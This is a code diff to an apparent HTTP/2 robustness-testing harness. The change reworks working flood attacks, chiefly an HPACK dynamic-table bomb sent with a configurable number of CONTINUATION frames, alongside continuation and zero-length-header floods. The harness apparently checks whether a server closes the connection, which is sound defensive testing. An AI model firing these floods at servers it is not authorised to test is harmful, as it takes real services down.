@@ -9,6 +9,8 @@ import dataclasses
 import struct
 import time
 
+from hpack.hpack import encode_integer
+
 import frames
 from frames import (
     CONTINUATION,
@@ -28,7 +30,6 @@ from frames import (
     call_block,
     frame,
     headers,
-    literal,
     reset,
     settings,
     window_update,
@@ -63,6 +64,8 @@ class Flood:
     # The stream whose flow control is kept, where the attack spends windows.
     credit_of: int | None = None
     receive_buffer: int | None = None
+    # Whether each buffer waits for an answer to the one before.
+    in_step: bool = False
     options: tuple = ()
     # Whether nothing but a closed connection will do.
     must_close: bool = False
@@ -71,7 +74,7 @@ class Flood:
         begin = time.monotonic()
         with Assailant(port, self.opening, self.receive_buffer) as assailant:
             credit = Credit(self.credit_of) if self.credit_of else None
-            assailant.flood(self.units, seconds, self.reads, credit)
+            assailant.flood(self.units, seconds, self.reads, credit, self.in_step)
             elapsed = time.monotonic() - begin
             units = assailant.sent // self.units.unit_bytes
             return Outcome(assailant.closed, self.describe(assailant), units, elapsed)
@@ -121,20 +124,19 @@ def opens_and(fault, end=False):
     return Numbered(lambda stream: headers(stream, block, end) + fault(stream))
 
 
-def hpack_bomb():
+def hpack_references(continuations):
     """A field of 4 KB is put into the dynamic table, and then named by one byte each time."""
-    planted = b"\x40\1b" + bytes(frames.encode_integer(4_000, 7)) + bytes([0x78]) * 4_000
+    planted = b"\x40\1b" + bytes(encode_integer(4_000, 7)) + b"x" * 4_000
     reference = b"\xbe"  # Index 62, the newest entry.
     block = call_block()
     first = block + reference * (FRAME_BYTES - len(block))
-    parts = [reference * FRAME_BYTES] * 7
+    further = reference * FRAME_BYTES
 
     def unit(stream):
-        continued = b"".join(
-            frame(CONTINUATION, frames.END_HEADERS if index == 6 else 0, stream, part)
-            for index, part in enumerate(parts)
-        )
-        return headers(stream, first, end=True, whole=False) + continued
+        made = headers(stream, first, end=True, whole=continuations == 0)
+        for left in range(continuations, 0, -1):
+            made += frame(CONTINUATION, frames.END_HEADERS if left == 1 else 0, stream, further)
+        return made
 
     return Flood(Numbered(unit, first=3), OPENING + headers(1, block + planted, end=True))
 
@@ -186,7 +188,7 @@ ATTACKS = {
     ),
     "continuation_flood": continuation((b"\0\1a\x3c" + b"v" * 60) * 256),
     "continuation_empty_flood": continuation(b""),
-    "hpack_bomb": hpack_bomb(),
+    "hpack_bomb": hpack_references(continuations=7),
     "zero_len_headers": Flood(
         Numbered(lambda stream: headers(stream, call_block() + b"\x40\0\0" * 5_000, end=True))
     ),
